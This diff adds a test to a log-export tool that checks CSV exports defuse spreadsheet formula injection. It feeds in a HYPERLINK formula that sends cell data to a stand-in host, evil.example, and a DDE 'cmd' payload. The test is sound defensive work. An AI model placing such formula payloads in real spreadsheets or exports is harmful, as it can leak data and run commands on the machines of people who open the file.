@@ -10,7 +10,7 @@ import type { CaseInfo } from '../../../shared/domain';
 import { removeDir, tempDir } from '../../testkit/tmp';
 import { Engine } from '../engine';
 import type { CaseHandle } from '../case/caseStore';
-import { readBack } from './formats';
+import { parseCsv, readBack } from './formats';
 import { sealStream } from '../crypto/pgp';
 import { type ClientRecipient, redactionSetupFor, runExport } from './run';
 import { buildSelection } from './select';
@@ -195,5 +195,22 @@ describe('export', () => {
       await expect(checkWhere(h.db, bad), bad).rejects.toThrow(/where/i);
     }
     await expect(checkWhere(h.db, "level = 'ERROR' AND source LIKE 'sys%'")).resolves.toBeTruthy();
+  });
+
+  it('a CSV extract opened in a spreadsheet runs no formula: such cells start with \', and the report says why', async () => {
+    const dir = path.join(root, 'formula-bundle');
+    fs.mkdirSync(dir, { recursive: true });
+    const line = (message: string) => JSON.stringify({ asctime: '2023-07-28 16:54:53,016', name: 'app', levelname: 'WARNING', message, created: 1690543493.016 });
+    fs.writeFileSync(path.join(dir, 'formula.json.log'), [line('=HYPERLINK("http://evil.example/?"&A1,"open")'), line("@SUM(1+1)*cmd|' /C calc'!A0")].join('\n') + '\n');
+    const other = await engine.call('cases.create', { name: 'formula', dir: path.join(root, 'formula-case') });
+    await engine.call('import.paths', { caseId: other.id, paths: [dir] });
+    const r = await runExport(engine.context.getCase(other.id), { selection: {}, format: 'csv', recipient: null, workers: 1 });
+    const text = fs.readFileSync(path.join(r.dir, 'events.csv'), 'utf8');
+    const messageAt = text.split('\r\n')[0]!.split(',').indexOf('message');
+    const messages = [...parseCsv(text)].slice(1).map((row) => row[messageAt]).sort();
+    expect(messages[0]).toMatch(/^'=HYPERLINK\("http:\/\/<host:\w+>\/\?"&A1,"open"\)$/);
+    expect(messages[1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    const report = JSON.parse(fs.readFileSync(path.join(r.dir, 'report.json'), 'utf8')) as { settings: { csvFormulaCells?: string } };
+    expect(report.settings.csvFormulaCells).toMatch(/begins with =, \+, -, @/);
   });
 });
